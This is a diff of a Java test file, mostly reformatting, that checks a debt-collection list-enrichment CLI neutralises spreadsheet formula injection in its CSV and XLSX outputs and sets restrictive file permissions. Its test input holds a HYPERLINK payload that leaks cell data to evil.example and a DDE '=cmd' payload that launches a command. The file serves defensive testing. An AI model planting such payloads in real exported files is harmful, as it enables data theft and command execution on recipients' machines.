@@ -3,6 +3,10 @@ package io.dialready.cli;
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.junit.jupiter.api.Assumptions.assumeTrue;
 
+import com.opencsv.CSVReader;
+import com.opencsv.CSVReaderBuilder;
+import com.opencsv.RFC4180ParserBuilder;
+import io.dialready.sink.FormulaGuard;
 import java.io.StringReader;
 import java.nio.charset.StandardCharsets;
 import java.nio.file.FileSystems;
@@ -14,7 +18,6 @@ import java.util.List;
 import java.util.concurrent.TimeUnit;
 import java.util.regex.Pattern;
 import java.util.zip.ZipFile;
-
 import org.apache.poi.ss.usermodel.Cell;
 import org.apache.poi.ss.usermodel.CellType;
 import org.apache.poi.ss.usermodel.Row;
@@ -22,12 +25,6 @@ import org.apache.poi.ss.usermodel.Sheet;
 import org.apache.poi.xssf.usermodel.XSSFWorkbook;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
-
-import com.opencsv.CSVReader;
-import com.opencsv.CSVReaderBuilder;
-import com.opencsv.RFC4180ParserBuilder;
-
-import io.dialready.sink.FormulaGuard;
 
 /**
  * Outputs are safe to open and to leave on a shared server: input cells a spreadsheet would run as formulas are
@@ -37,12 +34,14 @@ import io.dialready.sink.FormulaGuard;
 class OutputSafetyTest {
 
     /** Formula-like cells in every input column the outputs copy: key, name, phones, an unmapped column and its name. */
-    static final String INPUT = String.join("\r\n",
+    static final String INPUT = String.join(
+            "\r\n",
             "CONTRATO;NOME;VALOR;VENCIMENTO;DDD1;FONE1;TELEFONES;@NOTA",
             "=1+1;\"=HYPERLINK(\"\"http://evil.example/?d=\"\"&A2,\"\"Clique\"\")\";100,00;01/11/2026;11;98765-4321;+55 21 99876-5432;-nota",
             "F2;+MARIA SOUZA;-50,00;01/10/2026;21;99876-5433;-99;@x",
             "@F3;\tANA -LIMA;10,00;01/11/2026;31;91234-5678;=2+3;r",
-            "-F4;=cmd|' /C calc'!A0;10,00;01/11/2026;41;99123-4567;;ok", "");
+            "-F4;=cmd|' /C calc'!A0;10,00;01/11/2026;41;99123-4567;;ok",
+            "");
 
     /** Our own E.164 columns (one number, or a '|'-separated list): the only cells allowed to start with '+'. */
     private static final Pattern E164 = Pattern.compile("\\+\\d{8,15}(\\|\\+\\d{8,15})*");
@@ -84,9 +83,19 @@ class OutputSafetyTest {
     }
 
     private CliRun enrich(Path spec, Path out) {
-        return CliRun.of("enrich", "--job", spec.toString(), "--output", out.toString(), "--data",
-                dir.resolve("data").toString(), "--log-file", dir.resolve("log.txt").toString(), "--as-of",
-                "2026-11-23", "--quiet");
+        return CliRun.of(
+                "enrich",
+                "--job",
+                spec.toString(),
+                "--output",
+                out.toString(),
+                "--data",
+                dir.resolve("data").toString(),
+                "--log-file",
+                dir.resolve("log.txt").toString(),
+                "--as-of",
+                "2026-11-23",
+                "--quiet");
     }
 
     private static List<String[]> cells(Path file, char delimiter) throws Exception {
@@ -99,16 +108,23 @@ class OutputSafetyTest {
             return rows;
         }
         try (CSVReader r = new CSVReaderBuilder(new StringReader(text))
-            .withCSVParser(new RFC4180ParserBuilder().withSeparator(delimiter).build())
-            .build()) {
+                .withCSVParser(
+                        new RFC4180ParserBuilder().withSeparator(delimiter).build())
+                .build()) {
             rows.addAll(r.readAll());
         }
         return rows;
     }
 
-    private static final List<String> CSV_OUTPUTS = List.of("carteira.enriched.csv", "carteira.dialer.csv",
-            "carteira.rejects.csv", "carteira.per-debtor.csv", "carteira.vicidial.csv", "carteira.genesys.csv",
-            "carteira.whatsapp-campaign.csv", "carteira.sms-optin.csv");
+    private static final List<String> CSV_OUTPUTS = List.of(
+            "carteira.enriched.csv",
+            "carteira.dialer.csv",
+            "carteira.rejects.csv",
+            "carteira.per-debtor.csv",
+            "carteira.vicidial.csv",
+            "carteira.genesys.csv",
+            "carteira.whatsapp-campaign.csv",
+            "carteira.sms-optin.csv");
 
     @Test
     void noCellOfAnyCsvOutputStartsAFormulaExceptOurOwnE164Phones() throws Exception {
@@ -123,7 +139,9 @@ class OutputSafetyTest {
             for (String[] row : cells(out.resolve(name), name.endsWith(".txt") ? '|' : ',')) {
                 for (String cell : row) {
                     if (FormulaGuard.risky(cell)) {
-                        assertThat(cell).as(name + ": a cell starting a formula").matches(E164);
+                        assertThat(cell)
+                                .as(name + ": a cell starting a formula")
+                                .matches(E164);
                         rawPhones++;
                     }
                     if (cell.length() > 1 && cell.charAt(0) == '\'' && FormulaGuard.risky(cell.substring(1))) {
@@ -136,20 +154,26 @@ class OutputSafetyTest {
         assertThat(neutralised).isGreaterThan(15);
 
         String enriched = Files.readString(out.resolve("carteira.enriched.csv"));
-        assertThat(enriched.lines().findFirst().orElseThrow()).endsWith(",'@NOTA,wa_best_phone,wa_best_status,"
-                + "wa_active_phones,phones_ranked,segment,priority,wa_provider");
-        assertThat(enriched).contains("'=1+1,\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A2,\"\"Clique\"\")\",\"100,00\"")
-            .contains("'+55 21 99876-5432,'-nota,+5511987654321")
-            .contains("F2,'+MARIA SOUZA,\"'-50,00\"")
-            .contains("'@F3,'\tANA -LIMA")
-            .contains("'-F4,'=cmd|' /C calc'!A0");
-        assertThat(Files.readString(out.resolve("carteira.dialer.csv"))).contains("\n'=1+1,1,+55")
-            .contains("\n'@F3,1,+5531912345678").contains("\n'-F4,1,+5541991234567");
-        assertThat(Files.readString(out.resolve("carteira.rejects.csv"))).contains(",TELEFONES,'-99,")
-            .contains(",TELEFONES,'=2+3,");
+        assertThat(enriched.lines().findFirst().orElseThrow())
+                .endsWith(",'@NOTA,wa_best_phone,wa_best_status,"
+                        + "wa_active_phones,phones_ranked,segment,priority,wa_provider");
+        assertThat(enriched)
+                .contains("'=1+1,\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A2,\"\"Clique\"\")\",\"100,00\"")
+                .contains("'+55 21 99876-5432,'-nota,+5511987654321")
+                .contains("F2,'+MARIA SOUZA,\"'-50,00\"")
+                .contains("'@F3,'\tANA -LIMA")
+                .contains("'-F4,'=cmd|' /C calc'!A0");
+        assertThat(Files.readString(out.resolve("carteira.dialer.csv")))
+                .contains("\n'=1+1,1,+55")
+                .contains("\n'@F3,1,+5531912345678")
+                .contains("\n'-F4,1,+5541991234567");
+        assertThat(Files.readString(out.resolve("carteira.rejects.csv")))
+                .contains(",TELEFONES,'-99,")
+                .contains(",TELEFONES,'=2+3,");
         assertThat(Files.readString(out.resolve("carteira.per-debtor.csv"))).contains("'+MARIA SOUZA");
-        assertThat(Files.readString(out.resolve("carteira.vicidial.txt"))).contains("|'+MARIA||SOUZA|")
-            .contains("|ANA||'-LIMA|"); // VICIdial's lines turn tabs into spaces (trimmed) first
+        assertThat(Files.readString(out.resolve("carteira.vicidial.txt")))
+                .contains("|'+MARIA||SOUZA|")
+                .contains("|ANA||'-LIMA|"); // VICIdial's lines turn tabs into spaces (trimmed) first
         assertThat(Files.readString(out.resolve("carteira.sms-optin.csv"))).contains("'-F4,+5541991234567,'=cmd");
 
         // XLSX: converted from the CSV files, every cell text (or a number for rank/priority), never a formula
@@ -159,15 +183,18 @@ class OutputSafetyTest {
                 int texts = 0;
                 for (Row row : sheet) {
                     for (Cell cell : row) {
-                        assertThat(cell.getCellType()).as(name + " " + cell.getAddress()).isIn(CellType.STRING,
-                                CellType.NUMERIC);
+                        assertThat(cell.getCellType())
+                                .as(name + " " + cell.getAddress())
+                                .isIn(CellType.STRING, CellType.NUMERIC);
                         texts++;
                     }
                 }
                 assertThat(texts).isGreaterThan(20);
             }
             try (ZipFile zip = new ZipFile(out.resolve(name).toFile())) {
-                String sheetXml = new String(zip.getInputStream(zip.getEntry("xl/worksheets/sheet1.xml")).readAllBytes(),
+                String sheetXml = new String(
+                        zip.getInputStream(zip.getEntry("xl/worksheets/sheet1.xml"))
+                                .readAllBytes(),
                         StandardCharsets.UTF_8);
                 assertThat(sheetXml).doesNotContain("<f>").doesNotContain("<f ");
             }
@@ -180,7 +207,10 @@ class OutputSafetyTest {
         CliRun run = enrich(spec(false, "csv"), out);
         assertThat(run.exitCode()).as(run.err()).isZero();
         String enriched = Files.readString(out.resolve("carteira.enriched.csv"));
-        assertThat(enriched).contains("\n=1+1,\"=HYPERLINK(").contains(",@NOTA,").doesNotContain("'=");
+        assertThat(enriched)
+                .contains("\n=1+1,\"=HYPERLINK(")
+                .contains(",@NOTA,")
+                .doesNotContain("'=");
         assertThat(Files.readString(out.resolve("carteira.dialer.csv"))).contains("\n=1+1,1,+55");
         assertThat(Files.readString(out.resolve("carteira.rejects.csv"))).contains(",TELEFONES,-99,");
     }
@@ -194,21 +224,31 @@ class OutputSafetyTest {
             Path out = dir.resolve("umask-" + umask);
             Path log = dir.resolve("proc-" + umask + ".txt");
             List<String> command = new ArrayList<>(List.of("sh", "-c", "umask " + umask + " && exec \"$0\" \"$@\""));
-            command.addAll(ChildJvm.dialready("256m", "enrich", "--job", spec.toString(), "--output", out.toString(),
-                    "--data", dir.resolve("data-" + umask).toString(), "--log-file",
-                    dir.resolve("log-" + umask + ".txt").toString(), "--quiet"));
+            command.addAll(ChildJvm.dialready(
+                    "256m",
+                    "enrich",
+                    "--job",
+                    spec.toString(),
+                    "--output",
+                    out.toString(),
+                    "--data",
+                    dir.resolve("data-" + umask).toString(),
+                    "--log-file",
+                    dir.resolve("log-" + umask + ".txt").toString(),
+                    "--quiet"));
             Process p = new ProcessBuilder(command)
-                .redirectErrorStream(true)
-                .redirectOutput(log.toFile())
-                .start();
+                    .redirectErrorStream(true)
+                    .redirectOutput(log.toFile())
+                    .start();
             assertThat(p.waitFor(120, TimeUnit.SECONDS)).isTrue();
             assertThat(p.exitValue()).as(Files.readString(log)).isZero();
             List<String> names = new ArrayList<>(CSV_OUTPUTS);
-            names.addAll(List.of("carteira.vicidial.txt", "carteira.enriched.xlsx", "carteira.dialer.xlsx",
-                    "carteira.report.json"));
+            names.addAll(List.of(
+                    "carteira.vicidial.txt", "carteira.enriched.xlsx", "carteira.dialer.xlsx", "carteira.report.json"));
             for (String name : names) {
                 assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(out.resolve(name))))
-                    .as(name + " with umask " + umask).isEqualTo("rw-r-----");
+                        .as(name + " with umask " + umask)
+                        .isEqualTo("rw-r-----");
             }
         }
     }
@@ -219,7 +259,11 @@ class OutputSafetyTest {
         // a row longer than the reader takes, after a good chunk: the run stops with its part files in place
         StringBuilder input = new StringBuilder("CONTRATO;NOME;FONE\r\n");
         for (int i = 0; i < 10; i++) {
-            input.append("K").append(i).append(";ANA;11 98765-43").append(10 + i).append("\r\n");
+            input.append("K")
+                    .append(i)
+                    .append(";ANA;11 98765-43")
+                    .append(10 + i)
+                    .append("\r\n");
         }
         input.append("BIG;").append("X".repeat(1_100_000)).append(";11 98765-4399\r\n");
         Files.writeString(dir.resolve("big.csv"), input);
@@ -239,8 +283,9 @@ class OutputSafetyTest {
         CliRun run = enrich(spec, out);
         assertThat(run.exitCode()).as(run.err()).isEqualTo(ExitCodes.INPUT_UNREADABLE);
         for (String name : List.of("big.enriched.csv.part", "big.rejects.csv.part")) {
-            assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(out.resolve(name)))).as(name)
-                .isEqualTo("rw-r-----");
+            assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(out.resolve(name))))
+                    .as(name)
+                    .isEqualTo("rw-r-----");
         }
         assertThat(Files.readString(out.resolve("big.enriched.csv.part"))).contains("K4,ANA");
     }
